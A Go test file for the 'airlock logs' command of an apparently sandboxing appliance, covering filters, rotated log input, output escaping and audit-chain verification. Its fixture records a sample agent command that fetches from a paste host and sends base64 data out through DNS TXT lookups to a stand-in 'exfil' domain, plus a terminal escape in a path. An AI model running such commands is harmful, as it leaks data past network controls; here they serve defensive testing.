//go:build !airlock_thin

package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"errors"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/spf13/pflag"

	"airlock/audit"
	"airlock/client"
	"airlock/serve"
)

// responderFixture is what a responder is handed, at fixed times: a
// multi-line sh -c command, rules positioned in an absolute temporary
// path, a terminal escape in a name, denials across categories.
func responderFixture() []audit.Event {
	t0 := time.Date(2026, 11, 30, 8, 0, 0, 0, time.UTC)
	at := func(s int) time.Time { return t0.Add(time.Duration(s) * time.Second) }
	pos := " (/tmp/tmp.Xy12/policies/coding-agent.toml:%d:1)"
	rule := func(name string, line int) string { return name + strings.Replace(pos, "%d", itoa(line), 1) }
	var out []audit.Event
	e := auditEv(audit.KindExec, "3f2a9c01", "", "", "", at(0))
	e.ID = "x1"
	e.Exec = &audit.Exec{Stage: "started", Argv: []string{"sh", "-c", "curl https://paste.example.test/x\nnslookup -type=TXT aGVsbG8.exfil.example.test"}}
	out = append(out, e)
	e = auditEv(audit.KindFlow, "3f2a9c01", "deny", rule("deny.hosts[0]", 20), "", at(1))
	e.ID = "f1"
	e.Flow = &audit.Flow{Stage: "decision", Source: "198.18.0.2:4000", SNI: "paste.example.test", OrigDst: "198.18.9.9:443", Handling: "none"}
	out = append(out, e)
	e = auditEv(audit.KindDNS, "3f2a9c01", "deny", "default", "", at(2))
	e.DNS = &audit.DNS{QName: "aGVsbG8.exfil.example.test.", QType: "TXT", RCode: "REFUSED", Guard: "label-length"}
	out = append(out, e)
	e = auditEv(audit.KindHTTP, "3f2a9c01", "allow", rule("categories.web.hosts[0]", 9), "web", at(3))
	e.HTTP = &audit.HTTP{Method: "GET", Scheme: "https", Host: "docs.example.test", Path: "/guide\x1b[2J", Status: 200, BytesDown: 900}
	out = append(out, e)
	e = auditEv(audit.KindHTTP, "3f2a9c01", "deny", rule("categories.internal_api.routes", 30), "internal_api", at(4))
	e.HTTP = &audit.HTTP{Method: "DELETE", Scheme: "https", Host: "api.staging.example.test", Path: "/v1/items/7", Status: 403}
	out = append(out, e)
	e = auditEv(audit.KindHTTP, "7b11d2e4", "deny", rule("categories.web.methods", 10), "web", at(5))
	e.HTTP = &audit.HTTP{Method: "POST", Scheme: "https", Host: "docs.example.test", Path: "/upload", Status: 403}
	out = append(out, e)
	e = auditEv(audit.KindExec, "3f2a9c01", "", "", "", at(6))
	e.ID = "x1"
	e.Exec = &audit.Exec{Stage: "finished", Argv: out[0].Exec.Argv, ExitCode: new(int), DurationMS: 6000}
	*e.Exec.ExitCode = 6
	out = append(out, e)
	return out
}

func itoa(n int) string { return fmtInt(n) }

func fmtInt(n int) string { b, _ := json.Marshal(n); return string(b) }

func runLogsIn(t *testing.T, stdin string, args ...string) (string, string, error) {
	t.Helper()
	cmd := newLogsCmd()
	var out, errb bytes.Buffer
	cmd.SetOut(&out)
	cmd.SetErr(&errb)
	cmd.SetIn(strings.NewReader(stdin))
	cmd.SetArgs(args)
	cmd.SetContext(context.Background())
	err := cmd.Execute()
	return out.String(), errb.String(), err
}

// A responder holding a rotated, partly compressed JSONL set gets the
// same answer as from the store (users.md S4: "no --input-file").
func TestLogsInputRotatedSet(t *testing.T) {
	dir := seedAuditStore(t, responderFixture())
	stream := filepath.Join(dir, "events.jsonl")
	raw, err := os.ReadFile(stream)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.SplitAfter(string(raw), "\n")
	var gz bytes.Buffer
	zw := gzip.NewWriter(&gz)
	zw.Write([]byte(strings.Join(lines[:2], "")))
	zw.Close()
	os.WriteFile(stream+".2.gz", gz.Bytes(), 0o600)
	os.WriteFile(stream+".1", []byte(strings.Join(lines[2:4], "")), 0o600)
	os.WriteFile(stream, []byte(strings.Join(lines[4:], "")), 0o600)

	args := []string{"--verdict", "deny", "-o", "jsonl"}
	want, _, err := runLogsIn(t, "", append([]string{"--state-dir", dir}, args...)...)
	if err != nil || strings.Count(want, "\n") != 4 {
		t.Fatalf("store: %v\n%s", err, want)
	}
	got, _, err := runLogsIn(t, "", append([]string{"-i", stream, "-i", stream + ".2.gz", "-i", stream + ".1"}, args...)...)
	if err != nil || got != want {
		t.Fatalf("rotated set: %v\ngot:\n%s\nwant:\n%s", err, got, want)
	}
	got, _, err = runLogsIn(t, string(raw), append([]string{"--input", "-"}, args...)...)
	if err != nil || got != want {
		t.Fatalf("stdin: %v\n%s", err, got)
	}
	got, _, err = runLogsIn(t, "", append([]string{"-i", filepath.Join(dir, audit.StoreFile)}, args...)...)
	if err != nil || got != want {
		t.Fatalf("store file as input: %v\n%s", err, got)
	}
	if _, _, err := runLogsIn(t, "", "-i", stream, "--follow"); err == nil || !strings.Contains(err.Error(), "tail -F") {
		t.Fatalf("follow on a file: %v", err)
	}
}

// Filters repeat and negate (users.md S4: "filters take one value each,
// with no negation and no method/path/port/status filter"), and a
// sandbox id prefix matches.
func TestLogsRepeatableNegatedFilters(t *testing.T) {
	dir := seedAuditStore(t, responderFixture())
	for _, tc := range []struct {
		args []string
		want []uint64
	}{
		{[]string{"--verdict", "deny", "--not-category", "web"}, []uint64{2, 3, 5}},
		{[]string{"--verdict", "deny", "--verdict", "allow", "--not-kind", "dns", "--not-kind", "flow"}, []uint64{4, 5, 6}},
		{[]string{"--sandbox", "3f2a", "--kind", "http"}, []uint64{4, 5}},
		{[]string{"--method", "delete", "--method", "POST"}, []uint64{5, 6}},
		{[]string{"--status", "4xx", "--not-path", "/upload"}, []uint64{5}},
		{[]string{"--port", "443", "--kind", "flow"}, []uint64{2}},
		{[]string{"--port", "53"}, []uint64{3}},
		{[]string{"--exec", "x1"}, []uint64{1, 7}},
		{[]string{"--principal", "alice"}, nil},
		{[]string{"--rule", "categories.web.methods", "--rule", "default"}, []uint64{3, 6}},
		{[]string{"--kind", "http", "-n", "1", "--not-sandbox", "7b11"}, []uint64{5}},
	} {
		out, _, err := runLogsIn(t, "", append([]string{"--state-dir", dir, "-o", "jsonl"}, tc.args...)...)
		if err != nil {
			t.Fatalf("%v: %v", tc.args, err)
		}
		var got []uint64
		dec := json.NewDecoder(strings.NewReader(out))
		for dec.More() {
			var e audit.Event
			if err := dec.Decode(&e); err != nil {
				t.Fatal(err)
			}
			got = append(got, e.Seq)
		}
		if !equalSeqs(got, tc.want) {
			t.Errorf("%v: seqs %v, want %v", tc.args, got, tc.want)
		}
	}
	_, stderr, err := runLogsIn(t, "", "--state-dir", dir, "--host", "nothing.test")
	if err != nil || !strings.Contains(stderr, "no events match") {
		t.Errorf("empty result: %v %q", err, stderr)
	}
	for _, bad := range [][]string{{"--not-verdict", "maybe"}, {"--port", "70000"}, {"--status", "42"}, {"-o", "yaml"}, {"-o", "json", "-f"}} {
		if _, _, err := runLogsIn(t, "", append([]string{"--state-dir", dir}, bad...)...); err == nil {
			t.Errorf("%v: no error", bad)
		}
	}
}

func equalSeqs(a, b []uint64) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// Every row of the table and of compact is one line, whatever the
// events hold, and rule positions show the file name, not the temporary
// path (users.md S4).
func TestLogsOneLinePerEvent(t *testing.T) {
	dir := seedAuditStore(t, responderFixture())
	n := len(responderFixture())
	for _, o := range []string{"table", "compact"} {
		out, _, err := runLogsIn(t, "", "--state-dir", dir, "-o", o)
		if err != nil {
			t.Fatal(err)
		}
		want := n
		if o == "table" {
			want++
		}
		if got := strings.Count(out, "\n"); got != want {
			t.Errorf("-o %s: %d lines for %d events:\n%s", o, got, n, out)
		}
		if strings.Contains(out, "/tmp/tmp.Xy12") || !strings.Contains(out, "(coding-agent.toml:20:1)") {
			t.Errorf("-o %s: rule paths not shortened:\n%s", o, out)
		}
		if strings.ContainsRune(out, '\x1b') || !strings.Contains(out, `/guide\x1b[2J`) || !strings.Contains(out, `x\nnslookup`) {
			t.Errorf("-o %s: control characters not escaped:\n%s", o, out)
		}
	}
}

// Golden output of every -o format (go test -run TestLogsGolden -update).
func TestLogsGolden(t *testing.T) {
	dir := seedAuditStore(t, responderFixture())
	for _, o := range logFormats {
		out, _, err := runLogsIn(t, "", "--state-dir", dir, "-o", o)
		if err != nil {
			t.Fatal(err)
		}
		golden(t, filepath.Join("testdata", "logs."+o+".golden"), out)
	}
	out, _, err := runLogsIn(t, "", "top", "--state-dir", dir)
	if err != nil {
		t.Fatal(err)
	}
	golden(t, filepath.Join("testdata", "logs-top.table.golden"), out)
	out, _, err = runLogsIn(t, "", "top", "--state-dir", dir, "-o", "json")
	if err != nil {
		t.Fatal(err)
	}
	golden(t, filepath.Join("testdata", "logs-top.json.golden"), out)
}

// storeBackend answers the control API's log queries from a store, as
// the appliance does; the rest of the Backend is not used here.
type storeBackend struct {
	serve.Backend
	st *audit.Store
}

func (b storeBackend) Health(context.Context) client.Health { return client.Health{Status: "ok"} }

func (b storeBackend) Logs(ctx context.Context, q client.LogQuery, fn func(audit.Event) error) error {
	return b.st.Each(ctx, q, fn)
}

// Through the real control API handler and client on a unix socket, as an
// airlock group member who cannot read the state directory would.
func TestLogsThroughAPI(t *testing.T) {
	dir := seedAuditStore(t, responderFixture())
	st, err := audit.OpenStoreReadOnly(filepath.Join(dir, audit.StoreFile))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	sock := filepath.Join(t.TempDir(), "api.sock")
	ln, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: (&serve.API{Backend: storeBackend{st: st}}).Handler()}
	go srv.Serve(ln)
	defer srv.Close()
	args := []string{"--verdict", "deny", "--not-category", "web", "-o", "compact"}
	want, _, err := runLogsIn(t, "", append([]string{"--state-dir", dir}, args...)...)
	if err != nil {
		t.Fatal(err)
	}
	got, _, err := runLogsIn(t, "", append([]string{"--api", "--socket", sock}, args...)...)
	socketFlag = ""
	if err != nil || got != want || strings.Count(got, "\n") != 3 {
		t.Fatalf("api: %v\ngot:\n%s\nwant:\n%s", err, got, want)
	}
}

// `logs verify` finds a cut tail against the store's end records.
func TestLogsVerifyTruncatedTail(t *testing.T) {
	fx := responderFixture()
	end := auditEv(audit.KindLifecycle, "3f2a9c01", "", "", "", fx[len(fx)-1].Time.Add(time.Second))
	end.Lifecycle = &audit.Lifecycle{Stage: "destroyed"}
	dir := seedAuditStore(t, append(fx, end))
	stream := filepath.Join(dir, "events.jsonl")
	raw, _ := os.ReadFile(stream)
	lines := strings.SplitAfter(string(raw), "\n")
	cut := filepath.Join(t.TempDir(), "events.jsonl")
	os.WriteFile(cut, []byte(strings.Join(lines[:5], "")), 0o600)
	out, _, err := runLogsIn(t, "", "verify", "--state-dir", dir, stream)
	if err != nil || !strings.Contains(out, "ok: 8 records") {
		t.Fatalf("intact: %v\n%s", err, out)
	}
	out, _, err = runLogsIn(t, "", "verify", "--state-dir", dir, cut)
	var ee exitError
	if !errors.As(err, &ee) || ee.code != 1 || !strings.Contains(out, cut+":5: truncated: the chain ends at seq 5, but sandbox 3f2a9c01's end record (seq 8, store) says its records run to seq 7") {
		t.Fatalf("cut tail: %v\n%s", err, out)
	}
	t.Setenv("AIRLOCK_STATE_DIR", dir) // the default state dir is used when readable
	if _, _, err := runLogsIn(t, "", "verify", cut); !errors.As(err, &ee) {
		t.Fatalf("cut tail, default state dir: %v", err)
	}
}

// docs/events.md documents every filter and output of `airlock logs`.
func TestLogsFlagsDocumented(t *testing.T) {
	b, err := os.ReadFile("../../docs/events.md")
	if err != nil {
		t.Fatal(err)
	}
	doc := string(b)
	newLogsCmd().Flags().VisitAll(func(fl *pflag.Flag) {
		name := strings.TrimPrefix(fl.Name, "not-")
		if !strings.Contains(doc, "`--"+name+"`") && !strings.Contains(doc, "`--"+name+" ") && !strings.Contains(doc, "--"+name) {
			t.Errorf("docs/events.md does not mention --%s", fl.Name)
		}
	})
	for _, o := range logFormats {
		if !strings.Contains(doc, "`"+o+"`") {
			t.Errorf("docs/events.md does not document -o %s", o)
		}
	}
}

// A user who may not read the state directory (not root, users.md S4)
// is answered by the control API, and told so.
func TestLogsFallsBackToAPI(t *testing.T) {
	dir := seedAuditStore(t, responderFixture())
	st, err := audit.OpenStoreReadOnly(filepath.Join(dir, audit.StoreFile))
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	sock := filepath.Join(t.TempDir(), "api.sock")
	ln, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: (&serve.API{Backend: storeBackend{st: st}}).Handler()}
	go srv.Serve(ln)
	defer srv.Close()
	t.Setenv("AIRLOCK_SOCKET", sock)
	t.Setenv("AIRLOCK_STATE_DIR", dir)
	defer func(f func(string, time.Duration) (*storeSource, error)) { openStore = f }(openStore)
	openStore = func(path string, _ time.Duration) (*storeSource, error) {
		return nil, &os.PathError{Op: "open", Path: path, Err: os.ErrPermission}
	}
	out, stderr, err := runLogsIn(t, "", "--verdict", "deny", "-o", "compact")
	if err != nil || strings.Count(out, "\n") != 4 || !strings.Contains(stderr, "asking the appliance over its control socket") {
		t.Fatalf("fallback: %v\n%s\n%s", err, out, stderr)
	}
	// An explicit --state-dir is not second-guessed.
	if _, _, err := runLogsIn(t, "", "--state-dir", dir); !errors.Is(err, os.ErrPermission) {
		t.Fatalf("explicit state dir: %v", err)
	}
}
